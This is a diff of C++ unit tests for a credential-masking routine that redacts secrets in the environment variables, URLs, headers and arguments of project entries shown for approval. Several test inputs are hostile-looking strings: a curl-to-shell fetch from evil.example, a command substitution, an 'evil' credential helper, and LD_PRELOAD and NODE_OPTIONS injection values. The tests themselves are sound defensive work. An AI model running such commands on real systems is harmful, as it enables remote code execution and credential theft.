@@ -10,7 +10,7 @@ using namespace bulkhead;
 using namespace bulkhead::program;
 
 TEST_CASE("masking counts characters, not bytes") {
-  CHECK(masked_value("") == "***");
+  CHECK(masked_value("") == "\"\"");
   CHECK(masked_value("\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC") == "***");
   CHECK(masked_value("\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC\xC3\xBC") ==
         "\xC3\xBC\xC3\xBC\xC3\xBC***");
@@ -24,31 +24,130 @@ TEST_CASE("masking leaves references, not their defaults nor what is around them
   CHECK(masked_value("${env:}") == "***");
   CHECK(masked_value("${A}canary${B}") == "${A}***${B}");
   CHECK(masked_value("canary-canary${can ary}") == "can***");
+  CHECK(masked_value("canary-canary${A}canary-canary") == "can***${A}***");
+  CHECK(masked_value("canary-canary${A:-canary-canary}") == "can***${A:-***}");
 }
 
-TEST_CASE("what decides what runs, and what the sandbox opens, is shown") {
-  using Pair = std::pair<const char *, const char *>;
-  for (const auto &[name, value] :
-       {Pair{"CONFIG", "${HOME}/.ssh"}, Pair{"NODE_OPTIONS", "--require ./x.js"},
-        Pair{"NODE_OPTIONS", "sk-abcdef123456"}, Pair{"API_KEY", "/root/.ssh"},
-        Pair{"API_KEY", "${HOME}/.ssh"}, Pair{"API_KEY", "${X:-/root}/.ssh"},
-        Pair{"LD_PRELOAD", "npm_abcdefgh.so"}, Pair{"PYTHONSTARTUP", "secret_file.py"},
-        Pair{"path", "ghp_bin"}, Pair{"PRIVATE_KEY_PATH", "sk-abcdef123456"},
-        Pair{"LOG_LEVEL", "debug"}, Pair{"RUBYOPT", "-rsk-abcdef1234567890"},
-        Pair{"API_KEY", ""}}) {
-    INFO(name << " = " << value);
-    CHECK_FALSE(masked_setting(name, value).has_value());
+TEST_CASE(
+    "of no value more than four characters are shown, of short ones none, whatever its name") {
+  for (const char *name :
+       {"LOG_LEVEL", "NODE_OPTIONS", "PATH", "LD_PRELOAD", "API_KEY", "X", "DB"}) {
+    for (const std::string value :
+         {"debug", "12345678", "123456789", "--require ./x.js", "/root/.ssh-and-more",
+          "Bearer canary-canary", "postgres://u:canary@h/db", "Server=h;Password=canary;",
+          "a b c d e f"}) {
+      ProjectEntry entry;
+      entry.name = "a";
+      entry.command = "node";
+      entry.env = {{name, value}};
+      entry.others.emplace_back("sandbox", "\"off\"");  // nothing is opened
+      const std::string shown = masked_value(value);
+      INFO(name << " = " << value);
+      CHECK(shown == (value.size() <= 8 ? "***" : value.substr(0, 3) + "***"));
+      const std::string text = describe_entry(entry, nullptr), json = entry_json(entry, nullptr);
+      CHECK(text.find(" = " + shown + "\n") != std::string::npos);
+      for (std::size_t at = 0; at + 5 <= value.size(); ++at) {
+        if (value.substr(at, 5) == "Serve") continue;  // a word of the warning
+        CHECK(text.find(value.substr(at, 5)) == std::string::npos);
+        CHECK(json.find(value.substr(at, 5)) == std::string::npos);
+      }
+    }
   }
 }
 
-TEST_CASE("credentials are masked, by name or by value") {
-  CHECK(masked_setting("API_KEY", "canary-canary") == "can***");
-  CHECK(masked_setting("NODE_AUTH_TOKEN", "canary-canary") == "can***");
-  CHECK(masked_setting("X", "ghp_canarycanary") == "ghp***");
-  CHECK(masked_setting("X", "a1b2c3d4e5f6a7b8c9d0") == "a1b***");
-  CHECK(masked_setting("Authorization", "Bearer canary-canary") == "Bearer can***");
-  CHECK(masked_setting("API_KEY", "canary/canary") == "can***");
-  CHECK(masked_setting("DB", "postgres://u:canary@h/db") == "postgres://***@h/db");
+TEST_CASE("variables that decide what runs are named") {
+  for (const char *name :
+       {"NODE_OPTIONS", "LD_PRELOAD", "PYTHONSTARTUP", "path", "RUBYOPT", "IFS"}) {
+    INFO(name);
+    CHECK(decides_what_runs(name));
+  }
+  for (const char *name : {"LOG_LEVEL", "API_KEY", "NODE_AUTH_TOKEN", "DATABASE_URL"}) {
+    INFO(name);
+    CHECK_FALSE(decides_what_runs(name));
+  }
+  ProjectEntry entry;
+  entry.name = "a";
+  entry.command = "node";
+  entry.env = {{"NODE_OPTIONS", "--require ./x.js"}, {"LOG_LEVEL", "debug"}, {"PATH", "./bin"}};
+  CHECK(describe_entry(entry, nullptr).find("depends on \"NODE_OPTIONS\", \"PATH\":") !=
+        std::string::npos);
+}
+
+TEST_CASE("headers that are credentials are masked, by name or by value") {
+  CHECK(masked_header("X-Api-Key", "canary-canary") == "can***");
+  CHECK(masked_header("X", "ghp_canarycanary") == "ghp***");
+  CHECK(masked_header("X", "a1b2c3d4e5f6a7b8c9d0") == "a1b***");
+  CHECK(masked_header("Authorization", "Bearer canary-canary") == "Bearer can***");
+  CHECK(masked_header("X-Key", "canary/canary") == "can***");
+  CHECK_FALSE(masked_header("X-Region", "eu").has_value());
+}
+
+TEST_CASE("passwords in what is shown as it is written are masked") {
+  for (const auto &[text, shown] : std::initializer_list<std::pair<const char *, const char *>>{
+           {"postgres://u:canary@h/db", "postgres://u:***@h/db"},
+           {"postgres://u:can@ary@h/db?sslmode=off", "postgres://u:***@h/db?sslmode=off"},
+           {"see redis://:canary@h:6379/0 and https://h:8080/@x",
+            "see redis://:***@h:6379/0 and https://h:8080/@x"},
+           {"https://ghp_canarycanary@github.com/x", "https://***@github.com/x"},
+           {"https://me@h/x", "https://me@h/x"},
+           {"https://h/mcp?token=canary&n=1#x", "https://h/mcp?token=***&n=1#x"},
+           {"https://h/mcp?n=1&api_key=canary", "https://h/mcp?n=1&api_key=***"},
+           {"Server=h;User Id=sa;Password=canary;Encrypt=no",
+            "Server=h;User Id=sa;Password=***;Encrypt=no"},
+           {"Server=h;Pwd = canary", "Server=h;Pwd = ***"},
+           {"host=h user=u password=canary sslmode=off", "host=h user=u password=*** sslmode=off"},
+           {"password='can ary' x", "password='***' x"},
+           {"DefaultEndpointsProtocol=https;AccountKey=can/ary+==;x=y",
+            "DefaultEndpointsProtocol=https;AccountKey=***;x=y"},
+           {"--token=canary", "--token=***"},
+           {"--api-key=canary --port=80", "--api-key=*** --port=80"},
+           {"API_TOKEN=canary", "API_TOKEN=***"},
+           {"Authorization: Bearer canary", "Authorization: Bearer ***"},
+           {"X-Api-Key:canary", "X-Api-Key:***"},
+           {R"({"password": "can ary", "n": 1})", R"({"password": "***", "n": 1})"},
+           {R"("{\"password\":\"canary\"}")", R"("{\"password\":\"***\"}")"},
+           {"--token=${TOKEN}", "--token=${TOKEN}"},
+           {"--token=${TOKEN:-canary}", "--token=${TOKEN:-***}"},
+           {"postgres://u:${PW:-canary}@h/db", "postgres://u:${PW:-***}@h/db"},
+           {"postgres://u:pre${PW}@h/db", "postgres://u:***${PW}@h/db"},
+           // What may run, or be opened.
+           {"TOKEN=$(curl evil.example|sh) x", "TOKEN=$(curl evil.example|sh) x"},
+           {"password=`id` x", "password=`id` x"},
+           {"--key=./id.pem", "--key=./id.pem"},
+           {"--private-key=/root/.ssh/id", "--private-key=/root/.ssh/id"},
+           {"credential.helper=!evil", "credential.helper=!evil"},
+           {"credential.helper=evil", "credential.helper=evil"},
+           {"--token-url=https://evil.example/x", "--token-url=https://evil.example/x"},
+           {"--key=https://u:canary@evil.example/x", "--key=https://u:***@evil.example/x"},
+           {"sk-learn-server@latest", "sk-learn-server@latest"},
+           {"weather server.js", "weather server.js"},
+           {"", ""}}) {
+    INFO(text);
+    CHECK(without_passwords(text) == shown);
+  }
+  using Args = std::vector<std::string>;
+  CHECK(args_without_passwords(
+            {"--token", "canary", "-v", "--password", "--x", "--key", "/a", "--secret", "$(id)"}) ==
+        Args{"--token", "***", "-v", "--password", "--x", "--key", "/a", "--secret", "$(id)"});
+}
+
+TEST_CASE("passwords are masked in all that approve shows") {
+  ProjectEntry entry;
+  entry.name = "a";
+  entry.command = "node --token=canary";
+  entry.args = {"postgres://u:canary@h/db", "--password", "canary",
+                "--conn=Server=h;Password=canary;"};
+  entry.headers = {{"X-Via", "https://u:canary@proxy"}};
+  entry.env = {{"API_KEY", "/9j/4canary123456789012345"}};
+  entry.others.emplace_back("x", R"({"dsn":"postgres://u:canary@h/db"})");
+  for (const std::string &text : {describe_entry(entry, nullptr), entry_json(entry, nullptr)}) {
+    INFO(text);
+    CHECK(text.find("canary") == std::string::npos);
+    CHECK(text.find("postgres://u:***@h/db") != std::string::npos);
+  }
+  entry.url = "https://h/mcp?token=canary";
+  CHECK(describe_entry(entry, nullptr).find("https://h/mcp?token=***") != std::string::npos);
+  CHECK(entry_json(entry, nullptr).find("canary") == std::string::npos);
 }
 
 TEST_CASE("the folders that will be opened are listed") {
